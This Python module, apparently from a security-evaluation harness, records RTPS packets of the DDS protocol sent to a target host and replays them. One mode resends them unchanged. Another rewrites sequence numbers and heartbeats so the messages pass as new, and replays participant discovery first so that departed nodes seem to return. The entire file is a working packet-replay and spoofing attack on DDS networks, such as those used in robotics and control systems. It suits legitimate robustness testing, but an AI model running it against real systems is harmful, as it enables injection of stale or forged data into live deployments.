"""Record RTPS packets, the protocol of DDS, on a network, and send them again: ``python -m evaluation.rtps_replay``.

It listens on a device, and reads lines from standard input. ``same`` sends all packets again that were sent to the
victim, each to its port. ``later`` sends their messages again with later numbers, so that DDS takes them as new: first
the discovery of the participants, so that those which have ended seem to be back, then all messages in their order. It
answers each line with the number of packets that it sent.
"""

from __future__ import annotations

import os
import select
import socket
import struct
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass

from evaluation.rtps_attack import (
    DATA,
    HEADER,
    HEARTBEAT,
    PUBLICATIONS_WRITER,
    SPDP_WRITER,
    SUBSCRIPTIONS_WRITER,
    ports,
    submessage,
)

MAGIC = HEADER[:4]
HEADER_BYTES = 20
HAS_DATA = 4
DISCOVERY = (SPDP_WRITER, PUBLICATIONS_WRITER, SUBSCRIPTIONS_WRITER)
ALL_PROTOCOLS, IPV4, UDP = 3, 0x0800, 17
MORE, OFFSET = 0x2000, 0x1FFF
LATER = 100_000
"""Difference of the numbers of messages that are sent again."""
PACE_S = 0.002
SETTLE_S = 1.0
"""Time (s) that the victim gets to work on the discovery of one kind."""


@dataclass(frozen=True)
class Sample:
    """A message of DDS, as it was in a packet: ``content`` is all after its number."""

    prefix: bytes
    writer: bytes
    flags: int
    options: bytes
    number: int
    content: bytes

    def packet(self, number: int) -> bytes:
        """A packet that says that all messages before ``number`` are gone, and has this one with that number."""
        place = struct.pack("<iI", number >> 32, number & 0xFFFFFFFF)
        reader = self.writer[:3] + b"\xc7" if self.writer in DISCOVERY else bytes(4)
        head = reader + self.writer
        beat = submessage(HEARTBEAT, head + place + place + struct.pack("<I", number & 0x7FFFFFFF))
        return HEADER + self.prefix + beat + submessage(DATA, self.options + head + place + self.content, self.flags)


def samples(packet: bytes) -> Iterator[Sample]:
    """Messages in a packet."""
    at = HEADER_BYTES
    while at + 4 <= len(packet):
        kind, flags, length = struct.unpack_from("<BBH", packet, at)
        content = packet[at + 4 : at + 4 + length] if length else packet[at + 4 :]
        if kind == DATA and flags & HAS_DATA and len(content) > HEADER_BYTES:  # else the end of something
            high, low = struct.unpack_from("<iI", content, 12)
            yield Sample(packet[8:20], content[8:12], flags, content[:4], (high << 32) + low, content[20:])
        at += 4 + len(content)


class Datagrams:
    """UDP datagrams with RTPS packets to the ``victim``, or to all, from Ethernet frames."""

    def __init__(self, victim: str) -> None:
        self._victim = socket.inet_aton(victim)
        self._parts: dict[bytes, bytes] = {}
        """Beginnings of datagrams that IP has split, by number and addresses."""

    def take(self, frame: bytes) -> tuple[int, bytes] | None:
        """Port and content of the datagram that ``frame`` completes, if any."""
        if len(frame) < 42 or struct.unpack_from("!H", frame, 12)[0] != IPV4 or frame[23] != UDP:
            return None
        (total,), (place,), target = struct.unpack_from("!H", frame, 16), struct.unpack_from("!H", frame, 20), frame[30]
        if frame[30:34] != self._victim and not 224 <= target < 240:
            return None
        name, part = frame[18:20] + frame[26:34], frame[14 + 4 * (frame[14] & 15) : 14 + total]
        begun = self._parts.pop(name, b"") if place & OFFSET else b""
        if len(begun) != 8 * (place & OFFSET):
            return None
        if place & MORE:
            self._parts[name] = begun + part
            return None
        datagram = begun + part
        content = datagram[8:]
        return (struct.unpack_from("!H", datagram, 2)[0], content) if content.startswith(MAGIC) else None


class Replay:
    """Packets to the ``victim`` on ``device``."""

    def __init__(self, victim: str, domain: int, device: str) -> None:
        self._victim, self._ports = victim, ports(domain)
        self._tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL_PROTOCOLS))
        self._tap.bind((device, 0))
        self._tap.setblocking(False)
        self._sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._datagrams = Datagrams(victim)
        self._packets: list[tuple[int, bytes]] = []
        self._rounds = 0

    def record(self) -> None:
        """Record the packets that wait in the socket."""
        while True:
            try:
                frame = self._tap.recv(65536)
            except BlockingIOError:
                return
            if (found := self._datagrams.take(frame)) is not None:
                self._packets.append(found)

    def forget_new(self) -> None:
        """Drop the packets that wait in the socket: this program has sent them."""
        kept = self._packets
        self._packets = []
        self.record()
        self._packets = kept

    def same(self) -> int:
        """Send all packets again."""
        return self._send([(packet, (port,)) for port, packet in self._packets])

    def later(self) -> int:
        """Send all messages again, with later numbers."""
        self._rounds += 1
        found = dict.fromkeys(each for _, packet in self._packets for each in samples(packet))
        count = 0
        for kind in (*DISCOVERY, b""):
            chosen = [one for one in found if (one.writer if one.writer in DISCOVERY else b"") == kind]
            count += self._send([(one.packet(one.number + LATER * self._rounds), self._ports) for one in chosen])
            time.sleep(SETTLE_S)
        return count

    def _send(self, packets: list[tuple[bytes, tuple[int, ...] | list[int]]]) -> int:
        count = 0
        for packet, targets in packets:
            for port in targets:
                self._sender.sendto(packet, (self._victim, port))
                count += 1
            time.sleep(PACE_S)
        self.forget_new()
        return count

    def run(self) -> None:
        """Record, and answer lines, until standard input ends."""
        print("ready", flush=True)
        while True:
            if sys.stdin.fileno() in select.select([self._tap, sys.stdin.fileno()], [], [])[0]:
                line = os.read(sys.stdin.fileno(), 100).decode().strip()
                if not line:
                    return
                self.record()
                print({"same": self.same, "later": self.later}[line](), flush=True)
            self.record()


if __name__ == "__main__":
    Replay(sys.argv[1], int(sys.argv[2]), sys.argv[3]).run()
